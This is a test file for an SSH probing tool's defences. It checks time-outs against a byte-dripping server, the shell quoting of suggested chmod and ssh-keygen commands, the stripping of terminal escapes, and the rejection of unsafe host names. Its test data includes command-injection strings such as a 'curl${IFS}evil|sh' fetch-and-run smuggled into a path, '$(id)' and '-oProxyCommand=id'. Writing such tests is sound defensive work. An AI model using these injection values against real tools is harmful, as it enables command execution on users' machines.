import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Connection } from '../../src/base/index.js';
import { explainLogin } from '../../src/probe/ssh-login.js';
import { askSshSettings, askSshUser, isSshName, sshCommand } from '../../src/probe/ssh-settings.js';
import type { SimNetwork } from '../../src/sim/index.js';
import { failed, measure, reason, told } from './ssh-bench.js';

const PLAN = {
  place: { name: 'beta' },
  timeoutMs: 5000,
  settings: {
    host: '10.0.0.2',
    port: 22,
    user: 'me',
    compression: false,
    controlMaster: 'no',
    identityFiles: [],
    hostKeyChecking: 'ask',
    knownHosts: [],
  },
};

/** A server that says something again and again, a little at a time. */
function dripping(text: string, everyMs: number): (network: SimNetwork) => void {
  return (network) => {
    const { clock } = network.ports('server');
    const drip = async (connection: Connection): Promise<void> => {
      for (let i = 0; i < 100_000; i++) {
        await connection.write(new TextEncoder().encode(text.charAt(i % text.length)));
        await clock.sleep(everyMs);
      }
    };
    network.host('server').listen(22, { onConnection: (connection) => void drip(connection).catch(() => undefined) });
  };
}

describe('a server that means ill', () => {
  test('cannot hold a connection longer than the time-out by dripping', async () => {
    const { found } = await measure({
      server: 'none',
      options: { timeoutMs: 1000, count: 2, intervalMs: 10, logins: 0 },
      prepare: dripping('x', 0.5),
    });
    assert.equal(found.get('ssh.banner')?.outcome, 'timeout', JSON.stringify(told(found)));
    assert.match(reason(found, 'ssh.banner'), /has not identified itself within 1000 ms/);
    assert.ok((found.get('ssh.banner')?.durationMs ?? 0) < 2500, `${found.get('ssh.banner')?.durationMs} ms`);
  });
});

describe('what ssh and the server’s side say', () => {
  test('is never a command, where a path of it is offered for pasting', () => {
    for (const said of [
      'Bad owner or permissions on /home/me/.ssh/config;curl${IFS}evil|sh',
      "Bad owner or permissions on $(id)'",
      "Permissions 0644 for '/home/me/$(id)' are too open.\nbad permissions",
    ]) {
      const { reason: why } = explainLogin(failed(said), PLAN);
      const [, command = ''] = /with '(chmod .*)'$/.exec(why) ?? [];
      assert.match(command, /^chmod (?:go-w|600) '(?:[^']|'\\'')*'$/, why);
    }
  });

  test('is cut, and without what a terminal would obey', () => {
    const { reason: why } = explainLogin(failed(`Permission denied (\u001b[2Jpublickey,${'x'.repeat(100_000)}).`), PLAN);
    assert.ok(why.length < 600, `${why.length} characters`);
    assert.ok(!why.includes('\u001b'));
    const path = explainLogin(failed(`Bad owner or permissions on /\u001b]0;x\u0007${'y'.repeat(100_000)}`), PLAN).reason;
    assert.ok(path.length < 2500 && !/\p{Cc}/u.test(path));
  });

  test('the host of a configuration stays one word of what is offered', () => {
    const { reason: why } = explainLogin(failed('REMOTE HOST IDENTIFICATION HAS CHANGED'), {
      ...PLAN,
      settings: { ...PLAN.settings, host: 'a;id', port: 2222 },
    });
    assert.match(why, /ssh-keygen -R '\[a;id\]:2222'/);
    assert.equal(sshCommand({ name: 'a b', configFile: '/x y' }), "ssh -F '/x y' 'a b'");
  });
});

describe('a name for ssh', () => {
  const NAMES = ['-oProxyCommand=id', 'a;id', '$(id)', '`id`', 'a b', 'a|id', "a'b", 'a"b', 'a\\b', 'a\nb', '{a}', '<a', '&', ''];

  test('that a shell would obey is not handed to the program, whose configuration may put it into one', async () => {
    for (const name of NAMES) {
      const ran: unknown[] = [];
      const ports = {
        commands: { run: async (...args: unknown[]) => (ran.push(args), { outcome: 'missing' as const }) },
        clock: { nowMs: () => 0 },
      } as unknown as Parameters<typeof askSshSettings>[0];
      assert.equal((await askSshSettings(ports, { name }, { timeoutMs: 1000 })).outcome, 'failed', name);
      assert.equal(await askSshUser(ports, { name }, { timeoutMs: 1000 }), undefined);
      assert.deepEqual(ran, []);
    }
    for (const name of ['beta', 'beta.local', '10.0.0.2', 'fe80::1%eth0', 'host_name', 'bücher.example', 'me@beta', 'build+1'])
      assert.ok(isSshName(name));
  });

  test('that is refused leaves the fresh connection’s figures, and no login is tried', async () => {
    const { found, ran } = await measure({ target: '$(id)' });
    assert.deepEqual(ran, []);
    assert.equal(found.get('ssh')?.outcome, 'unchecked');
    assert.match(reason(found, 'ssh'), /^no login was tried/);
  });
});
